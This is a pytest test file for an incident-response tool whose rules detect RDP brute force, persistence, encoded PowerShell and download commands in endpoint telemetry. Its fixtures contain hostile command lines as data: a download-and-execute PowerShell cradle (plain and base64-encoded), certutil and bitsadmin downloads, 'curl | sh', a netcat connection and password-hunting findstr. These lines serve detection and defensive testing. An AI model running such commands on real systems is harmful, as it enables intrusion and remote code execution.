"""Finding rules on hand-made results: each rule's statement and evidence, and its limits."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone

from irreport.analysis import findings as rules
from irreport.analysis import indicators
from irreport.analysis.indicators import extract_indicators
from irreport.analysis.response import containment_actions
from irreport.analysis.summary import summarise
from irreport.collect import Collection
from irreport.sources import QueryResult
from irreport.timerange import TimeRange

T0 = datetime(2026, 12, 2, 14, 0, tzinfo=timezone.utc)


def make_collection(devices=("testmachine3",), **results) -> Collection:
    collection = Collection(devices=list(devices),
                            time_range=TimeRange(T0 - timedelta(days=2), T0 + timedelta(days=1)),
                            source_kind="local", source_provenance={}, pack_version="test")
    for query_id, rows in results.items():
        query_id = query_id.replace("_", "-")
        columns = sorted({k for r in rows for k in r})
        collection.results[query_id] = QueryResult(query_id=query_id, columns=columns, rows=rows)
    return collection


def failed(ip, attempts, account="administrator", kind="Public"):
    return {"DeviceName": "testmachine3", "RemoteIP": ip, "RemoteIPType": kind,
            "AccountName": account, "Attempts": attempts, "FirstSeen": T0,
            "LastSeen": T0 + timedelta(hours=1), "LogonType": "Network"}


def inbound_logon(ip="203.0.113.77", delay=92, kind="Public"):
    return {"DeviceName": "testmachine3", "RemoteIP": ip, "RemoteIPType": kind, "LocalPort": 3389,
            "ConnectionTime": T0, "LogonTime": T0 + timedelta(seconds=delay),
            "DelaySeconds": delay, "LogonType": "RemoteInteractive", "AccountDomain": "testmachine3",
            "AccountName": "administrator1"}


def process(name, command, parent="cmd.exe", seconds=0.0, pid=100, parent_pid=50):
    return {"Timestamp": T0 + timedelta(seconds=seconds), "DeviceName": "testmachine3",
            "FileName": name, "ProcessCommandLine": command, "InitiatingProcessFileName": parent,
            "InitiatingProcessId": parent_pid, "InitiatingProcessCreationTime": T0,
            "InitiatingProcessCommandLine": 'cmd.exe /c "a.cmd"', "AccountName": "administrator1",
            "ProcessId": pid}


def test_brute_force_counts_and_success():
    collection = make_collection(
        failed_logons=[failed("203.0.113.77", 15), failed("198.51.100.1", 10, "admin"),
                       failed("10.0.4.2", 50, kind="Private")],
        inbound_then_logon=[inbound_logon()])
    [finding] = rules.rdp_brute_force(collection)
    assert finding.facts["attempts"] == 25
    assert finding.facts["addresses"] == ["198.51.100.1", "203.0.113.77"]
    assert finding.facts["successful_addresses"] == ["203.0.113.77"]
    assert finding.severity == "High"
    assert "25 failed logons from 2 internet addresses against 2 account names" in finding.statement


def test_brute_force_below_threshold_is_silent():
    collection = make_collection(failed_logons=[failed("203.0.113.77", 19)])
    assert rules.rdp_brute_force(collection) == []


def test_brute_force_without_success_is_medium():
    collection = make_collection(failed_logons=[failed("203.0.113.77", 30)])
    [finding] = rules.rdp_brute_force(collection)
    assert finding.severity == "Medium"


def test_logon_after_inbound_statement():
    collection = make_collection(inbound_then_logon=[inbound_logon(),
                                                     inbound_logon("10.0.4.9", kind="Private")])
    [finding] = rules.logon_after_inbound(collection)
    assert finding.statement == (
        "testmachine3\\administrator1 logged on to testmachine3 (RemoteInteractive) from "
        "203.0.113.77 at 2026-12-02T14:01:32.000Z, 92 s after that address's inbound connection "
        "to port 3389.")
    assert finding.techniques == ["T1078", "T1133", "T1021.001"]


def test_discovery_burst_found():
    tools = ["whoami.exe", "net.exe", "ipconfig.exe", "systeminfo.exe", "netstat.exe"]
    rows = [process(name, name, seconds=i * 0.15, pid=200 + i) for i, name in enumerate(tools)]
    [finding] = rules.discovery_burst(make_collection(process_events=rows))
    assert finding.facts["tools"] == sorted(tools)
    assert abs(finding.facts["seconds"] - 0.6) < 1e-6
    assert {"T1033", "T1087.001", "T1016", "T1082", "T1049"} == set(finding.techniques)


def test_discovery_at_human_pace_is_silent():
    tools = ["whoami.exe", "net.exe", "ipconfig.exe", "systeminfo.exe"]
    rows = [process(name, name, seconds=i * 40) for i, name in enumerate(tools)]
    assert rules.discovery_burst(make_collection(process_events=rows)) == []


def test_discovery_from_non_shell_is_silent():
    tools = ["whoami.exe", "net.exe", "ipconfig.exe", "systeminfo.exe"]
    rows = [process(name, name, parent="svchost.exe", seconds=i * 0.1) for i, name in
            enumerate(tools)]
    assert rules.discovery_burst(make_collection(process_events=rows)) == []


def test_credential_hunting_needs_password_word():
    rows = [process("findstr.exe", "findstr /si password *.txt"),
            process("findstr.exe", "findstr /i error log.txt")]
    [finding] = rules.credential_hunting(make_collection(process_events=rows))
    assert len(finding.evidence[0].rows) == 1
    assert finding.techniques == ["T1552.001"]


def run_key(name, data, devices_with_value, device="testmachine3"):
    return {"Timestamp": T0, "DeviceName": device, "ActionType": "RegistryValueSet",
            "RegistryKey": r"HKEY_CURRENT_USER\S-1\Software\Microsoft\Windows\CurrentVersion\Run",
            "RegistryValueName": name, "RegistryValueData": data,
            "DevicesWithValue": devices_with_value, "InitiatingProcessFileName": "reg.exe"}


def test_run_key_rare_and_writable():
    rows = [run_key("OneDriveUpdate", r"C:\Users\Public\Libraries\odupdate.exe", 1),
            run_key("Teams", r"C:\Users\a\AppData\Local\Teams\Update.exe", 5),
            run_key("Vendor", r"C:\Program Files\Vendor\agent.exe", 1),
            run_key("Other", r"C:\Users\Public\x.exe", 1, device="wks-hr01")]
    [finding] = rules.run_key_persistence(make_collection(run_keys=rows))
    assert finding.facts["value_name"] == "OneDriveUpdate"
    assert finding.devices == ["testmachine3"]


def test_tampering_outcome():
    rows = [{"Timestamp": T0, "DeviceName": "testmachine3", "Category": "Tampering",
             "Outcome": "Blocked", "Detail": "RegistryModification DisableRealtimeMonitoring"}]
    [finding] = rules.tampering(make_collection(malicious_activity=rows))
    assert "outcome: Blocked" in finding.statement
    assert finding.statement.startswith("1 attempt to tamper with Microsoft Defender on ")
    assert finding.statement.endswith("Tamper protection blocked every one.")
    rows.append({**rows[0], "Outcome": "Audited"})
    [finding] = rules.tampering(make_collection(malicious_activity=rows))
    assert "Tamper protection blocked 1 of them; check that the settings" in finding.statement


def test_lateral_movement_skips_smb():
    base = {"ConnectionTime": T0, "SourceDevice": "testmachine3", "TargetIP": "10.0.4.21",
            "TargetDevice": "srv-files01", "AccountName": "administrator1",
            "LogonType": "RemoteInteractive", "LogonTime": T0 + timedelta(seconds=11),
            "InitiatingProcessCommandLine": "mstsc.exe /v:10.0.4.21"}
    rows = [{**base, "RemotePort": 3389}, {**base, "RemotePort": 445, "LogonType": "Network"}]
    [finding] = rules.lateral_movement(make_collection(lateral_movement=rows))
    assert "over RDP" in finding.statement
    assert "11 s later" in finding.statement
    assert finding.facts["target_device"] == "srv-files01"


def test_indicators_and_actions_from_findings():
    collection = make_collection(
        failed_logons=[failed("203.0.113.77", 30)], inbound_then_logon=[inbound_logon()],
        run_keys=[run_key("OneDriveUpdate", r"C:\Users\Public\Libraries\odupdate.exe", 1)])
    found = rules.run_rules(collection)
    indicators = extract_indicators(found, collection)
    kinds = {(i.kind, i.value) for i in indicators}
    assert ("IP address", "203.0.113.77") in kinds
    assert ("Account", "administrator1") in kinds
    (account,) = [i for i in indicators if i.kind == "Account"]
    # The account was first used at the logon, 92 s after the connection.
    assert account.first_seen == T0 + timedelta(seconds=92)
    assert any(k == "Registry value" and v.endswith(r"\OneDriveUpdate") for k, v in kinds)
    titles = [a.title for a in containment_actions(found, indicators)]
    assert titles[0] in ("Isolate the affected devices", "Disable and reset the accounts the "
                         "attacker used", "Close RDP to the internet")
    assert "Remove the run key value" in titles
    assert "Block the attacker's addresses" in titles
    (removal,) = [a for a in containment_actions(found, indicators)
                  if a.title == "Remove the run key value"]
    assert r'reg delete "HKU\S-1\Software\Microsoft\Windows\CurrentVersion\Run"' in removal.detail


def test_reg_exe_key_forms():
    from irreport.analysis.response import reg_exe_key

    user_key = r"HKEY_CURRENT_USER\S-1-5-21-7-500\Software\Run"
    assert reg_exe_key(user_key) == r"HKU\S-1-5-21-7-500\Software\Run"
    assert reg_exe_key(r"HKEY_CURRENT_USER\Software\Run") == r"HKCU\Software\Run"
    assert reg_exe_key(r"HKEY_LOCAL_MACHINE\SOFTWARE\Run") == r"HKLM\SOFTWARE\Run"
    assert reg_exe_key(r"HKCU\Software\Run") == r"HKCU\Software\Run"


def test_indicator_first_seen_is_earliest_row():
    sha1 = "9a8b7c6d5e4f30211203f4e5d6c7b8a9f0e1d2c3"
    alert = {"AlertTime": T0 + timedelta(hours=1), "Title": "Suspicious file", "EntityType": "File",
             "FileName": "odupdate.exe", "FolderPath": r"C:\Users\Public\odupdate.exe",
             "SHA1": sha1}
    created = {"Timestamp": T0, "DeviceName": "testmachine3", "ActionType": "FileCreated",
               "FileName": "ODUPDATE.EXE", "SHA1": sha1}
    other = {"Timestamp": T0 - timedelta(hours=1), "DeviceName": "testmachine3",
             "ActionType": "FileCreated", "FileName": "notepad.exe", "SHA1": "ab" * 20}
    collection = make_collection(alert_evidence=[alert], file_analysis=[other, created])

    found = {(i.kind, i.value): i for i in extract_indicators([], collection)}

    assert found[("File", "odupdate.exe")].first_seen == T0
    assert found[("SHA1", sha1)].first_seen == T0
    assert ("File", "notepad.exe") not in found


def test_url_indicator_dated_by_download():
    url = "http://203.0.113.77/tools/AnyDesk_setup.exe"
    alert = {"AlertTime": T0 + timedelta(minutes=36), "Title": "SmartScreen warned",
             "EntityType": "Url", "RemoteUrl": url}
    downloaded = {"Timestamp": T0, "DeviceName": "testmachine3", "ActionType": "FileCreated",
                  "FileName": "AnyDesk_setup.exe", "FileOriginUrl": url}
    collection = make_collection(alert_evidence=[alert], user_writable_files=[downloaded])

    found = {(i.kind, i.value): i for i in extract_indicators([], collection)}

    assert found[("URL", url)].first_seen == T0


def test_summary_without_findings_says_so():
    summary = summarise([], ["testmachine3"])
    assert summary.first_malicious is None
    assert "no malicious activity" in summary.sentences[0]


def test_summary_names_entry_point():
    collection = make_collection(failed_logons=[failed("203.0.113.77", 30)],
                                 inbound_then_logon=[inbound_logon()])
    summary = summarise(rules.run_rules(collection), ["testmachine3"])
    assert "203.0.113.77" in summary.entry_point
    assert summary.accounts == ["administrator1"]


def test_internet_address_classification():
    assert rules.is_internet_address("203.0.113.77")
    assert rules.is_internet_address("8.8.8.8")
    assert not rules.is_internet_address("10.0.4.13")
    assert not rules.is_internet_address("fe80::1")
    assert not rules.is_internet_address("not an address")


def test_system_binaries_never_indicators():
    detections = [
        {"Timestamp": T0, "DeviceName": "testmachine3", "Category": "Attack surface reduction",
         "ActionType": "AsrLsassCredentialTheftBlocked", "Outcome": "Blocked",
         "Detail": "9e6c4e1f-7d60-472f-ba1a-a39ef669e4b2", "FileName": "lsass.exe",
         "FolderPath": r"C:\Windows\System32\lsass.exe", "SHA1": "aa" * 20},
        {"Timestamp": T0, "DeviceName": "testmachine3", "Category": "Antivirus",
         "ActionType": "AntivirusReport", "Outcome": "Detected", "Detail": "x",
         "FileName": "Zoom.exe", "FolderPath": r"C:\Users\a\AppData\Roaming\Zoom\Zoom.exe",
         "SHA1": "bb" * 20},
        {"Timestamp": T0, "DeviceName": "testmachine3", "Category": "Antivirus",
         "ActionType": "AntivirusDetection", "Outcome": "Remediated",
         "Detail": "HackTool:Win32/Mimikatz.D", "FileName": "m.exe",
         "FolderPath": r"C:\Users\Public\Libraries\m.exe", "SHA1": "cc" * 20}]
    alerts = [{"AlertId": "a1", "Title": "LSASS access", "EntityType": "File",
               "FileName": "lsass.exe", "FolderPath": r"C:\Windows\System32", "SHA1": "aa" * 20,
               "AlertTime": T0}]
    collection = make_collection(malicious_activity=detections, alert_evidence=alerts)
    indicators = extract_indicators(rules.run_rules(collection), collection)
    hashes = {i.value for i in indicators if i.kind == "SHA1"}
    assert hashes == {"cc" * 20}


def test_brute_force_addresses_keep_own_first_seen():
    early = failed("198.51.100.1", 10)
    early["FirstSeen"] = T0 - timedelta(days=2)
    collection = make_collection(failed_logons=[early, failed("203.0.113.77", 15)],
                                 inbound_then_logon=[inbound_logon()])
    indicators = {i.value: i for i in extract_indicators(rules.run_rules(collection), collection)
                  if i.kind == "IP address"}
    assert set(indicators) == {"198.51.100.1", "203.0.113.77"}
    assert indicators["198.51.100.1"].first_seen == T0 - timedelta(days=2)
    assert indicators["203.0.113.77"].first_seen == T0


def test_encoded_powershell_decoded():
    import base64

    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.77/a.ps1')"
    encoded = base64.b64encode(script.encode("utf-16-le")).decode()
    rows = [process("powershell.exe", f"powershell.exe -NoP -W Hidden -Enc {encoded}"),
            process("powershell.exe", "powershell.exe -Command Get-Date")]
    [finding] = rules.encoded_powershell(make_collection(process_events=rows))
    assert finding.facts["scripts"] == [script]
    assert len(finding.evidence[0].rows) == 1


def test_encoded_powershell_ignores_bad_or_short():
    assert rules.decode_powershell("powershell.exe -enc !!!notbase64!!!") is None
    assert rules.decode_powershell("powershell.exe -enc QUJDRA==") is None


def encode_script(script: str) -> str:
    import base64

    return base64.b64encode(script.encode("utf-16-le")).decode()


def test_encoded_powershell_switch_forms():
    forms = ["-e", "-en", "-enc", "-enco", "-encod", "-encoded", "-encodedc", "-EncodedCommand",
             "-ENC", "-eNcOdEdCoMmAnD", "-ec", "-EC", "/e", "/enc", "/EncodedCommand", "--enc",
             "\u2013enc", "\u2014e", "/\"e\"nc"]
    for switch in forms:
        assert rules.decode_powershell(f"powershell.exe {switch} SQBFAFgA") == "IEX", switch
    assert rules.decode_powershell("pwsh -NoProfile -w hidden -e SQBFAFgA") == "IEX"
    assert rules.decode_powershell('"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -ec "SQBFAFgA"') \
        == "IEX"


def test_encoded_powershell_other_switches_ignored():
    for switch in ("-ExecutionPolicy", "-ep", "-Exec", "-ex", "-enableX", "-encodedX", "-eca",
                   "-ea", "-NoExit", "-"):
        assert rules.decode_powershell(f"powershell.exe {switch} SQBFAFgA") is None, switch
    # After -Command or -File the rest is the script and its arguments.
    assert rules.decode_powershell('powershell.exe -c "Get-Thing -e SQBFAFgA"') is None
    assert rules.decode_powershell("powershell.exe -Command Get-Thing -e SQBFAFgA") is None
    assert rules.decode_powershell("powershell.exe -f run.ps1 -e SQBFAFgA") is None
    assert rules.decode_powershell("powershell.exe -e") is None


def test_encoded_powershell_needs_base64_text():
    assert rules.decode_powershell("powershell.exe -e $payload") is None
    assert rules.decode_powershell("powershell.exe -enc SQBF-AFgA") is None
    assert rules.decode_powershell("powershell.exe -enc SQBFAFgAA") is None
    # Base64 of UTF-8 "test", which decodes as UTF-16LE to CJK characters and no script.
    assert rules.decode_powershell("powershell.exe -enc dGVzdA==") is None
    # .NET's base64 decoder skips white space, which a quoted argument may contain.
    assert rules.decode_powershell('powershell.exe -enc "SQBF AFgA"') == "IEX"


def test_encoded_powershell_reads_bounded_prefix():
    tail = " " + "x" * 2 * 1024 * 1024
    assert rules.decode_powershell("powershell.exe -e SQBFAFgA" + tail) == "IEX"
    past_limit = "powershell.exe" + " " * rules.MAX_COMMAND_LINE_CHARS + "-e SQBFAFgA"
    assert rules.decode_powershell(past_limit) is None


def test_encoded_powershell_unreadable_payload():
    nul_script = "A" * 40_000
    rows = [process("powershell.exe", f"powershell.exe -EncodedCommand {nul_script}", pid=401),
            process("powershell.exe", "powershell.exe -enc dGVzdA==", pid=402),
            process("powershell.exe", "powershell.exe -e $payload", pid=403)]
    [finding] = rules.encoded_powershell(make_collection(process_events=rows))
    assert [row["ProcessId"] for row in finding.evidence[0].rows] == [401]
    # The command line is read up to CreateProcess's limit, so the count stops there.
    readable = rules.MAX_COMMAND_LINE_CHARS - len("powershell.exe -EncodedCommand ")
    assert finding.facts["scripts"] == [
        f"({readable} base64 characters that decode to no readable script)"]


def test_encoded_powershell_rule_short_forms():
    rows = [process("powershell.exe", "powershell -e SQBFAFgA", pid=301),
            process("pwsh.exe", "pwsh /ec SQBFAFgA", pid=302),
            process("POWERSHELL.EXE", "POWERSHELL -ENCO SQBFAFgA", pid=303),
            process("powershell.exe", "powershell -ep bypass -File a.ps1", pid=304),
            process("powershell.exe", "powershell -ExecutionPolicy SQBFAFgA", pid=305),
            process("cmd.exe", "cmd.exe /c echo -e SQBFAFgA", pid=306)]
    [finding] = rules.encoded_powershell(make_collection(process_events=rows))
    assert [row["ProcessId"] for row in finding.evidence[0].rows] == [301, 302, 303]
    assert finding.facts["scripts"] == ["IEX"]


def command_line_indicators(collection) -> dict[tuple[str, str], object]:
    kinds = ("URL", "Domain", "IP address")
    found = extract_indicators(rules.run_rules(collection), collection)
    return {(i.kind, i.value): i for i in found if i.kind in kinds}


def test_download_command_line_indicators():
    rows = [process("certutil.exe", r"certutil.exe -urlcache -split -f "
                    r"http://files.example-cdn.net/a.exe C:\Users\Public\a.exe", pid=401),
            process("powershell.exe", "powershell -c iwr https://198.51.100.7/x.ps1", pid=402,
                    seconds=5),
            process("bitsadmin.exe", r"bitsadmin /transfer j ftp://Dl.Example.org:2121/b.exe "
                    r"C:\Users\Public\b.exe", pid=403, seconds=9)]
    collection = make_collection(process_events=rows)
    found = command_line_indicators(collection)
    assert set(found) == {
        ("URL", "http://files.example-cdn.net/a.exe"), ("Domain", "files.example-cdn.net"),
        ("URL", "https://198.51.100.7/x.ps1"), ("IP address", "198.51.100.7"),
        ("URL", "ftp://Dl.Example.org:2121/b.exe"), ("Domain", "dl.example.org")}
    url = found[("URL", "https://198.51.100.7/x.ps1")]
    assert url.context == ("powershell.exe command line: "
                           "powershell -c iwr https://198.51.100.7/x.ps1")
    assert url.first_seen == T0 + timedelta(seconds=5)
    assert url.rules == ["tool-download"]
    assert found[("Domain", "dl.example.org")].first_seen == T0 + timedelta(seconds=9)

    findings = rules.run_rules(collection)
    actions = containment_actions(findings, extract_indicators(findings, collection))
    [block] = [a for a in actions if a.title == "Block the attacker's addresses"]
    assert block.targets == ["198.51.100.7"]


def test_command_line_private_addresses_not_ip_indicators():
    rows = [process("bitsadmin.exe", r"bitsadmin /transfer j http://10.0.4.21/b.exe C:\b.exe"),
            process("certutil.exe", "certutil -urlcache -f http://127.0.0.1:8080/c.exe c.exe",
                    pid=102),
            process("certutil.exe", "certutil -urlcache -f http://fileserver/d.exe d.exe",
                    pid=103)]
    found = command_line_indicators(make_collection(process_events=rows))
    assert set(found) == {("URL", "http://10.0.4.21/b.exe"),
                          ("URL", "http://127.0.0.1:8080/c.exe"),
                          ("URL", "http://fileserver/d.exe")}


def test_unflagged_command_lines_ignored():
    rows = [process("msedge.exe", "msedge.exe --single-argument https://news.example.com/",
                    parent="explorer.exe"),
            process("ping.exe", "ping 198.51.100.44", parent="explorer.exe", pid=102)]
    assert command_line_indicators(make_collection(process_events=rows)) == {}


def test_alert_process_command_line_indicators():
    alert = {"AlertId": "a1", "Title": "Suspicious mshta", "EntityType": "Process",
             "FileName": "mshta.exe", "AlertTime": T0,
             "ProcessCommandLine": "mshta.exe http://hta.example.net/x.hta"}
    found = command_line_indicators(make_collection(alert_evidence=[alert]))
    assert set(found) == {("URL", "http://hta.example.net/x.hta"), ("Domain", "hta.example.net")}
    url = found[("URL", "http://hta.example.net/x.hta")]
    assert url.rules == ["alert"]
    assert url.first_seen == T0
    assert url.context == ("mshta.exe command line (Suspicious mshta): "
                           "mshta.exe http://hta.example.net/x.hta")


def test_decoded_powershell_indicators():
    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')"
    rows = [process("powershell.exe", f"powershell.exe -NoP -W Hidden -e {encode_script(script)}")]
    found = command_line_indicators(make_collection(process_events=rows))
    assert set(found) == {("URL", "http://203.0.113.50/a.ps1"), ("IP address", "203.0.113.50")}
    assert found[("URL", "http://203.0.113.50/a.ps1")].context.startswith(
        "powershell.exe command line, decoded: IEX (New-Object")
    assert found[("URL", "http://203.0.113.50/a.ps1")].rules == ["encoded-powershell"]


def test_network_indicators_edges():
    cases = {
        "iex(iwr http://a.example.com/x.ps1);iex $r": [("URL", "http://a.example.com/x.ps1"),
                                                      ("Domain", "a.example.com")],
        "curl http://b.example.com/p|sh": [("URL", "http://b.example.com/p"),
                                           ("Domain", "b.example.com")],
        "see http://c.example.com/a.exe.": [("URL", "http://c.example.com/a.exe"),
                                            ("Domain", "c.example.com")],
        'x "http://d.example.com/<script>alert(1)</script>"': [
            ("URL", "http://d.example.com/"), ("Domain", "d.example.com")],
        "get http://[2001:db8::5]:8443/x": [("URL", "http://[2001:db8::5]:8443/x"),
                                            ("IP address", "2001:db8::5")],
        "nc.exe 198.51.100.9 4444": [("IP address", "198.51.100.9")],
        "setup.exe --version 5.1.19041.1 --build 1.2.3.4.5": [],
        "setup.exe --version 1.0.0.1 /server 8.8.4.4": [("IP address", "8.8.4.4")],
        "Add-Type -AssemblyName 'System.Web, Version=4.0.0.0, Culture=neutral'": [],
        'agent.exe /ProductVersion:"3.1.0.2"': [],
        "x 999.1.1.1 01.2.3.4 v1.2.3.4": [],
        "mstsc /v:10.0.4.21 & ping 127.0.0.1": [],
        "http://$server/a http://[bad/x file://c/x": [("URL", "http://$server/a")],
    }
    for text, expected in cases.items():
        assert indicators.network_indicators(text) == expected, text


def test_network_indicators_bounded():
    many = " ".join(f"http://198.51.100.{n}/" for n in range(100))
    found = indicators.network_indicators(many)
    assert len(found) == indicators.MAX_INDICATORS_PER_COMMAND_LINE
    assert found[:2] == [("URL", "http://198.51.100.0/"), ("IP address", "198.51.100.0")]

    long_url = "http://e.example.com/" + "a" * indicators.MAX_URL_CHARS
    assert indicators.network_indicators(long_url) == []

    limit = rules.MAX_COMMAND_LINE_CHARS
    late = "x" * limit + " http://late.example.com/"
    assert indicators.network_indicators(late) == []
    # A URL that runs across the end of the read prefix would be cut, so it is left out.
    across = "x" * (limit - 30) + " http://cut.example.com/" + "b" * 40
    assert indicators.network_indicators(across) == []
    early = "certutil -f http://early.example.com/a.exe " + "y" * 2 * 1024 * 1024
    assert indicators.network_indicators(early) == [("URL", "http://early.example.com/a.exe"),
                                                    ("Domain", "early.example.com")]


def test_ip_indicators_in_numeric_order():
    table = indicators._Table()
    for address in ("198.51.100.200", "198.51.100.48", "203.0.113.7"):
        table.add("IP address", address, "test", None, "rule")
    assert [i.value for i in table.sorted()] == ["198.51.100.48", "198.51.100.200", "203.0.113.7"]


def test_run_key_value_urls_become_indicators():
    data = r"C:\Users\Public\upd.exe --from https://cdn.example-files.net/u.bin --via 203.0.113.9"
    rows = [run_key("Updater", data, 1)]
    found = rules.run_key_persistence(make_collection(run_keys=rows))
    values = {(i.kind, i.value) for i in extract_indicators(found, make_collection())}
    assert ("URL", "https://cdn.example-files.net/u.bin") in values
    assert ("Domain", "cdn.example-files.net") in values
    assert ("IP address", "203.0.113.9") in values


def test_scheduled_task_action_urls_but_not_its_namespace():
    content = ('<?xml version="1.0"?><Task xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">'
               '<Actions><Exec><Command>C:\\Users\\Public\\sync.exe</Command>'
               '<Arguments>--get https://dl.example-sync.net/p.bin</Arguments></Exec></Actions></Task>')
    rows = [{"Timestamp": T0, "DeviceName": "testmachine3", "ActionType": "ScheduledTaskCreated",
             "Name": "\\Sync", "Detail": content, "InitiatingProcessAccountName": "administrator1"}]
    found = rules.scheduled_task_persistence(make_collection(scheduled_tasks_services=rows))
    values = {(i.kind, i.value) for i in extract_indicators(found, make_collection())}
    assert ("URL", "https://dl.example-sync.net/p.bin") in values
    assert ("Domain", "dl.example-sync.net") in values
    assert not [v for k, v in values if "schemas.microsoft.com" in v]


def outbound(path, address, count, first, last):
    return {"DeviceName": "testmachine3", "InitiatingProcessFileName": path.rsplit("\\", 1)[-1],
            "InitiatingProcessFolderPath": path, "InitiatingProcessAccountName": "administrator1",
            "RemoteIP": address, "RemotePort": 443, "Connections": count,
            "FirstSeen": first, "LastSeen": last, "ActionType": "ConnectionSuccess"}


def test_dropped_program_calling_out():
    implant = r"C:\Users\Public\Libraries\odupdate.exe"
    written = {"Timestamp": T0, "DeviceName": "testmachine3", "ActionType": "FileCreated",
               "FolderPath": implant, "InitiatingProcessFileName": "certutil.exe"}
    edge = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
    collection = make_collection(
        user_writable_files=[written],
        outbound_connections=[
            outbound(implant.upper(), "203.0.113.77", 113, T0 + timedelta(minutes=1),
                     T0 + timedelta(hours=9)),
            outbound(implant, "10.0.4.21", 3, T0, T0),
            outbound(edge, "203.0.113.5", 40, T0, T0)])

    (finding,) = rules.dropped_program_calls_out(collection)

    assert finding.severity == "High"
    assert finding.last_seen == T0 + timedelta(hours=9)
    assert "203.0.113.77:443 (113 connections)" in finding.statement
    assert "10.0.4.21" not in finding.statement
    assert "by certutil.exe" in finding.statement
    assert [row["RemoteIP"] for row in finding.evidence[0].rows] == ["203.0.113.77"]
    kinds = {(i.kind, i.value) for i in extract_indicators([finding], collection)}
    assert ("IP address", "203.0.113.77") in kinds


def test_installed_program_calling_out_is_no_finding():
    edge = r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe"
    collection = make_collection(outbound_connections=[outbound(edge, "203.0.113.5", 40, T0, T0)])

    assert rules.dropped_program_calls_out(collection) == []


def test_program_written_by_updater_is_medium():
    updater = r"C:\Users\alice\AppData\Local\Vendor\agent.exe"
    written = {"Timestamp": T0, "DeviceName": "testmachine3", "ActionType": "FileCreated",
               "FolderPath": updater, "InitiatingProcessFileName": "VendorUpdate.exe"}
    collection = make_collection(
        user_writable_files=[written],
        outbound_connections=[outbound(updater, "203.0.113.5", 4, T0, T0)])

    (finding,) = rules.dropped_program_calls_out(collection)

    assert finding.severity == "Medium"


def test_actions_for_web_addresses_and_files():
    from irreport.analysis.model import Indicator

    indicators = [Indicator("URL", "http://203.0.113.77/odupdate.exe", "certutil", None, ["x"]),
                  Indicator("File", "odupdate.exe", r"C:\Users\Public\Libraries\odupdate.exe",
                            None, ["y"])]

    actions = {a.title: a for a in containment_actions([], indicators)}

    assert actions["Block the attacker's web addresses"].targets == [
        "http://203.0.113.77/odupdate.exe"]
    assert actions["Delete the attacker's files"].targets == [
        r"C:\Users\Public\Libraries\odupdate.exe"]


def test_guessing_lesson_names_alert_delay():
    from irreport.analysis.response import post_incident

    guessing = rules.rdp_brute_force(make_collection(failed_logons=[failed("203.0.113.77", 30)]))
    first_alert = guessing[0].first_seen + timedelta(hours=54, minutes=20)

    (lesson, *_) = post_incident(guessing, first_alert, []).lessons
    assert lesson.endswith("the first alert came 54 h 20 min after the guessing began.")
    (lesson, *_) = post_incident(guessing, None, []).lessons
    assert lesson.endswith("and no alert was raised.")


def test_gap_lesson_names_the_control():
    from irreport.analysis.settings import gap_lessons

    gaps = [{"device": "testmachine3", "control": "Attack surface reduction rule in block mode",
             "configuration_id": "scid-2505", "name": "Block executables unless they meet a "
             "prevalence, age, or trusted list criterion"}]
    (lesson,) = gap_lessons(gaps)
    assert lesson.startswith("Not compliant on testmachine3: Block executables unless")
    assert "(scid-2505)" in lesson


def test_credential_dump_exposes_logged_on_accounts():
    dump = {"Timestamp": T0, "DeviceName": "testmachine3", "ActionType": "OpenProcessApiCall",
            "ProcessFileName": "m.exe", "AccountName": "administrator1"}
    collection = make_collection(lsass_access=[dump], inbound_then_logon=[inbound_logon()])
    found = rules.run_rules(collection)
    logons = [{"DeviceName": "testmachine3", "AccountDomain": "corp", "AccountName": "noah.berger",
               "LogonType": "Interactive"},
              {"DeviceName": "testmachine3", "AccountDomain": "corp", "AccountName": "backup",
               "LogonType": "Network"},
              {"DeviceName": "testmachine3", "AccountDomain": "testmachine3",
               "AccountName": "administrator1", "LogonType": "RemoteInteractive"}]

    actions = {a.title: a for a in containment_actions(found, [], logons)}

    # administrator1 has its own step, and a network logon caches no credentials.
    assert actions["Reset the accounts whose credentials were exposed"].targets == [
        "corp\\noah.berger"]


def test_remediated_file_marked_in_delete_step():
    from irreport.analysis.model import Indicator

    path = r"C:\Users\Public\Libraries\m.exe"
    detection = {"Timestamp": T0, "DeviceName": "testmachine3", "Category": "Antivirus",
                 "ActionType": "AntivirusDetection", "Outcome": "Remediated",
                 "FolderPath": path, "FileName": "m.exe"}
    found = rules.defender_detections(make_collection(malicious_activity=[detection]))
    indicators = [Indicator("File", "m.exe", path, None, ["defender-detections"])]

    actions = {a.title: a for a in containment_actions(found, indicators)}

    assert actions["Delete the attacker's files"].targets == [
        path + " (Defender remediated it; check that it is gone)"]


def detection_row(category, outcome, detail="", action="AntivirusDetection"):
    return {"Timestamp": T0, "DeviceName": "testmachine3", "Category": category,
            "ActionType": action, "Outcome": outcome, "Detail": detail}


def test_detection_severity_rules():
    severity = rules._detection_severity
    assert severity("Antivirus", [detection_row("Antivirus", "Remediated",
                                                "HackTool:Win32/Mimikatz.D")]) == "High"
    assert severity("Antivirus", [detection_row("Antivirus", "Remediated",
                                                "Trojan:Win32/Wacatac")]) == "Medium"
    left_in_place = detection_row("Antivirus", "Detected", "Virus:Win32/Virut")
    assert severity("Antivirus", [left_in_place]) == "High"
    warned = detection_row("SmartScreen", "Warned", "Untrusted", "SmartScreenAppWarning")
    assert severity("SmartScreen", [warned]) == "Medium"
    clicked = detection_row("SmartScreen", "Warned", "", "SmartScreenUserOverride")
    assert severity("SmartScreen", [warned, clicked]) == "High"
    assert severity("Attack surface reduction", [detection_row("Attack surface reduction",
                                                               "Audited")]) == "High"


def test_detections_split_into_episodes():
    early = {**detection_row("SmartScreen", "Warned", "Untrusted", "SmartScreenAppWarning"),
             "Timestamp": T0 - timedelta(days=9)}
    rows = [early, detection_row("SmartScreen", "Warned", "Untrusted", "SmartScreenAppWarning"),
            {**detection_row("SmartScreen", "Warned", "Malicious", "SmartScreenUrlWarning"),
             "Timestamp": T0 + timedelta(hours=20)}]

    found = rules.defender_detections(make_collection(malicious_activity=rows))

    assert [(f.first_seen, f.facts["count"]) for f in found] == [(T0 - timedelta(days=9), 1),
                                                                 (T0, 2)]
